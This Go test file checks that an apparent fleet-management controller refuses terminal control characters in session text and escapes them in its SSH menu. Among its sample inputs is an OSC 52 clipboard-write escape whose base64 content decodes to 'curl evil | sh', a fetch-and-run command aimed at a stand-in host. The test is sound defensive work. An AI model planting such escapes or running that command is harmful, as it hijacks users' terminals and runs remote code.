package controller_test

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/fleetmux/fleetmux/api"
	"github.com/fleetmux/fleetmux/controller"
	"github.com/fleetmux/fleetmux/internal/testutil"
	"golang.org/x/crypto/ssh"
)

// Terminal escapes an attacker puts in a title: OSC 52 writes the reader's
// clipboard, ESC[2J clears the screen, C1 CSI and a bidi override do the same
// without an ESC byte.
const (
	osc52       = "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07"
	eraseScreen = "\x1b[2J"
	c1CSI       = "\u009b2J"
	rlo         = "\u202e"
)

// TestSessionTextRefused is the input half of issue 15 #14: the node refuses a
// title, description or label with control characters, through the HTTP API, and
// changes nothing.
func TestSessionTextRefused(t *testing.T) {
	f := newFixture(t, fixtureOpts{nodes: map[string]map[string]string{"n1": nil}})
	for _, body := range []map[string]any{
		{"node": "n1", "title": osc52},
		{"node": "n1", "title": "ok" + c1CSI},
		{"node": "n1", "description": "x" + eraseScreen},
		{"node": "n1", "labels": map[string]string{"k": rlo + "v"}},
		{"node": "n1", "labels": map[string]string{"k": "a\nb"}},
	} {
		e := f.apiErr(400, api.CodeBadRequest, "POST", "/v1/sessions", body)
		if !strings.Contains(e.Message, "control character") {
			t.Errorf("create %q: %q does not say why", body, e.Message)
		}
	}
	var list api.SessionList
	f.must(200, "GET", "/v1/sessions", nil, &list)
	if len(list.Sessions) != 0 {
		t.Fatalf("refused creates left sessions: %+v", list.Sessions)
	}
	s := f.newSession("n1")
	path := "/v1/sessions/n1/" + s.ID
	f.apiErr(400, api.CodeBadRequest, "PATCH", path, map[string]any{"title": eraseScreen})
	f.apiErr(400, api.CodeBadRequest, "PATCH", path, map[string]any{"description": osc52})
	f.apiErr(400, api.CodeBadRequest, "PATCH", path, map[string]any{"labels": map[string]string{"k": c1CSI}})
	var got api.Session
	f.must(200, "PATCH", path, map[string]any{"title": "fine", "description": "two\nlines\tand a tab"}, &got)
	if got.Title != "fine" || got.Description != "two\nlines\tand a tab" {
		t.Fatalf("a plain title and a multiline description: %+v", got)
	}
}

// TestSSHMenuPrintable is the output half of issue 15 #14: whatever a node says
// (an older node, or one that lies), the SSH menu prints no control character.
func TestSSHMenuPrintable(t *testing.T) {
	f, bus := newFakeFixture(t, map[string]int{"n1": 1}, nil)
	bus.handle("n1", "list", reply(api.SessionList{Sessions: []api.Session{{
		Node: "n1", ID: "s1", State: api.StateRunning + eraseScreen, Title: osc52 + eraseScreen, CurrentCommand: c1CSI + rlo + "sleep",
	}}}))
	dir := t.TempDir()
	viewer := newSigner(t)
	ak := filepath.Join(dir, "authorized_keys")
	if err := os.WriteFile(ak, ssh.MarshalAuthorizedKey(viewer.PublicKey()), 0o600); err != nil {
		t.Fatal(err)
	}
	srv, err := f.ctl.StartSSH(controller.SSHConfig{Listen: "127.0.0.1:0", HostKeyFile: filepath.Join(dir, "host_key"), AuthorizedKeys: ak,
		Exec: func(context.Context, []string, string, string, io.Reader, io.Writer, io.Writer) int { return 0 }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	hk, err := srv.HostKey()
	if err != nil {
		t.Fatal(err)
	}
	c, err := ssh.Dial("tcp", srv.Addr(), &ssh.ClientConfig{User: "me", Auth: []ssh.AuthMethod{ssh.PublicKeys(viewer)}, HostKeyCallback: ssh.FixedHostKey(hk), Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	var mu sync.Mutex
	var out strings.Builder
	s.Stdout = writerFunc(func(p []byte) (int, error) { mu.Lock(); defer mu.Unlock(); return out.Write(p) })
	in, err := s.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RequestPty("xterm", 24, 100, ssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	text := func() string { mu.Lock(); defer mu.Unlock(); return out.String() }
	testutil.Eventually(t, 10*time.Second, func() bool { return strings.Contains(text(), "attach to [number]") }, "the menu")
	io.WriteString(in, "q\r")
	menu := text()
	if !strings.Contains(menu, "n1/s1") || !strings.Contains(menu, `\x1b]52`) {
		t.Fatalf("the menu does not show the session, escaped:\n%q", menu)
	}
	for _, bad := range []string{"\x1b", "\x07", "\u009b", rlo} {
		if strings.Contains(menu, bad) {
			t.Errorf("the menu holds %q raw:\n%q", bad, menu)
		}
	}
}
